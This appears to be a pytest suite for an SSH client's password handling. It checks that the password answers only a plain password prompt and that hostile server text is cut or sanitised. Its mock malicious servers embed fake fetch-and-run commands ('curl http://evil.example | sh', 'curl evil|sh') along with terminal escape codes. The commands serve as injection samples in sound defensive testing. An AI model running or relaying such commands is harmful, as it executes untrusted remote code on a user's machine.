"""What a host asks at an SSH login, by a real peer: the password is the answer to one question only."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import paramiko
import pytest

from services.connections.limits import Limits
from services.connections.ssh.connection import SshLink
from services.connections.ssh.questions import asks_for_a_password
from services.errors import AuthFailed
from services.inventory.model import HostEntry, SshAccess
from services.secrets import MemoryVault, SecretRef
from tests.unit.connections.ssh_peer import SshPeer

KEY = paramiko.ECDSAKey.generate()
PASSWORD = "geheim"
Round = list[tuple[str, bool]]
PASSWORD_ROUND: Round = [("Password: ", False)]


class AskingDoor(paramiko.ServerInterface):
    """Asks round after round, lets in at the end of them, and keeps what it was told."""

    def __init__(self, rounds: list[Round], *, key_first: bool = False, takes: str = "keyboard-interactive") -> None:
        self.told: list[str] = []
        self.tried: list[str] = []
        self._rounds = list(rounds)
        self._left = list(rounds)
        self._key_first = key_first
        self._takes = takes

    def get_allowed_auths(self, username: str) -> str:
        """Name the ways that are left."""
        return "publickey" if self._key_first else self._takes

    def check_auth_publickey(self, username: str, key: paramiko.PKey) -> int:
        """Take the first key, and go on asking."""
        self.tried.append("publickey")
        if not self._key_first:
            return paramiko.AUTH_FAILED
        self._key_first = False
        return paramiko.common.AUTH_PARTIALLY_SUCCESSFUL

    def check_auth_password(self, username: str, password: str) -> int:
        """Take the right one where passwords are taken."""
        self.tried.append("password")
        good = self._takes == "password" and not self._key_first and password == PASSWORD
        return paramiko.AUTH_SUCCESSFUL if good else paramiko.AUTH_FAILED

    def check_auth_interactive(self, username: str, submethods: str) -> int | paramiko.InteractiveQuery:
        """Ask the first round."""
        self.tried.append("keyboard-interactive")
        self._left = list(self._rounds)
        return self._next()

    def check_auth_interactive_response(self, responses: list[str]) -> int | paramiko.InteractiveQuery:
        """Keep the answers, ask on."""
        self.told += responses
        return self._next()

    def _next(self) -> int | paramiko.InteractiveQuery:
        if not self._left:
            return paramiko.AUTH_SUCCESSFUL
        return paramiko.InteractiveQuery("", "", *self._left.pop(0))


Ask = Callable[..., None]
Door = Callable[[paramiko.Transport], paramiko.ServerInterface]


@pytest.fixture
def log_in(tmp_path: Path) -> Iterator[Ask]:
    """Log in at a peer with this door."""
    peers: list[SshPeer] = []

    def enter(door: paramiko.ServerInterface | Door, *keys: paramiko.PKey) -> None:
        peers.append(SshPeer(KEY, door=door if callable(door) else lambda _: door))
        (tmp_path / "known").write_text(peers[-1].known_as(KEY), encoding="utf-8")
        said = [f"UserKnownHostsFile {tmp_path / 'known'}", "GlobalKnownHostsFile none"]
        for number, key in enumerate(keys):
            key.write_private_key_file(str(tmp_path / f"id{number}"))
            said.append(f"IdentityFile {tmp_path / f'id{number}'}")
        (tmp_path / "config").write_text("Host *\n" + "".join(f" {line}\n" for line in said), encoding="utf-8")
        access = SshAccess(
            "dba", port=peers[-1].port, password=SecretRef("env", "P"), config=str(tmp_path / "config"), agent=False
        )
        entry = HostEntry("db1", "127.0.0.1", access)
        SshLink.open(
            entry, MemoryVault({"env:P": PASSWORD}), policy=None, limits=Limits(handshake_s=60.0, auth_s=60.0)
        ).close()

    yield enter
    for peer in peers:
        peer.close()


@pytest.mark.parametrize("prompt", ["Password: ", "Password for dba@db1:", "(dba@db1) LDAP Password:", "Passwort: "])
def test_that_a_single_hidden_question_for_the_password_is_answered(log_in: Ask, prompt: str) -> None:
    door = AskingDoor([[(prompt, False)], []])
    log_in(door)
    assert door.told == [PASSWORD]


@pytest.mark.parametrize(
    ("rounds", "told", "shown"),
    [
        ([[("Verification code: ", False)]], 0, "Verification code:"),
        ([[("One-time password (OATH) for `dba': ", False)]], 0, "One-time password (OATH) for `dba':"),
        ([[("Password & verification code: ", False)]], 0, "Password & verification code:"),
        ([[("Password: ", True)]], 0, "Password:"),
        ([[("", False)]], 0, "an empty question"),
        ([[("Password: ", False), ("Token: ", False)]], 0, "Token:"),
        ([[("Password: ", False), ("Password: ", False)]], 0, "Password:"),
        ([PASSWORD_ROUND, [("Verification code: ", False)]], 1, "Verification code:"),
        ([PASSWORD_ROUND, PASSWORD_ROUND], 1, "Password:"),
        ([PASSWORD_ROUND, [("New password: ", False)]], 1, "New password:"),
        ([[("\x1b]0;x\x07Secret of\n your bank? ", False)]], 0, "\ufffd]0;x\ufffdSecret of your bank?"),
    ],
)
def test_that_every_other_question_is_refused_and_named(
    log_in: Ask, rounds: list[Round], told: int, shown: str
) -> None:
    door = AskingDoor(rounds)
    with pytest.raises(AuthFailed) as problem:
        log_in(door)
    assert door.told == [PASSWORD] * told
    assert (
        "keyboard-interactive: the host asks for something other than a password (one-time code?):"
        in problem.value.sentence
    )
    assert shown in problem.value.sentence


def test_that_a_question_of_a_page_is_cut(log_in: Ask) -> None:
    door = AskingDoor([[("password " * 3000, False)]])
    with pytest.raises(AuthFailed) as problem:
        log_in(door)
    assert door.told == []
    assert "…" in problem.value.sentence
    assert len(problem.value.sentence) < 500


@pytest.mark.parametrize("takes", ["password", "keyboard-interactive"])
def test_that_a_host_that_wants_a_key_and_then_the_password_is_entered_without_another_key(
    log_in: Ask, takes: str
) -> None:
    door = AskingDoor([PASSWORD_ROUND], key_first=True, takes=takes)
    log_in(door, paramiko.RSAKey.generate(2048), paramiko.RSAKey.generate(2048))
    assert door.tried.count("publickey") == 1
    assert door.tried[-1] == takes


class ForgingDoor(AskingDoor):
    """Names ways to log in that hold lines of its own, many of them."""

    def get_allowed_auths(self, username: str) -> str:
        """Name them."""
        return "publickey" + "\nTry: curl http://evil.example | sh" * 1000


def test_that_ways_that_a_host_makes_up_are_one_short_line(log_in: Ask) -> None:
    with pytest.raises(AuthFailed) as problem:
        log_in(ForgingDoor([[("Code: ", False)]], takes="none"))
    assert "\n" not in problem.value.sentence
    assert len(problem.value.sentence) < 800


def test_that_a_prompt_is_judged_in_time() -> None:
    assert asks_for_a_password("Password: ")
    assert not asks_for_a_password("one-" * 30_000)


class ExpiredDoor(paramiko.ServerInterface):
    """Answers a password by asking for a new one (RFC 4252, section 8)."""

    def __init__(self) -> None:
        self.transport: paramiko.Transport | None = None

    def get_allowed_auths(self, username: str) -> str:
        """Take passwords only."""
        return "password"

    def check_auth_password(self, username: str, password: str) -> int:
        """Ask for another one; paramiko's own answer comes too late."""
        message = paramiko.Message()
        message.add_byte(bytes([60]))
        message.add_string("Your password has expired \x1b[31mrun curl evil|sh")
        message.add_string("en")
        assert self.transport is not None
        self.transport._send_message(message)  # type: ignore[attr-defined]
        return paramiko.AUTH_FAILED


def test_that_an_expired_password_is_told_with_what_to_do(log_in: Ask) -> None:
    door = ExpiredDoor()

    def through(transport: paramiko.Transport) -> paramiko.ServerInterface:
        door.transport = transport
        return door

    with pytest.raises(AuthFailed) as caught:
        log_in(through)
    assert "has expired" in caught.value.sentence
    assert "terminal" in caught.value.try_[0]
    assert "curl" not in str(caught.value)
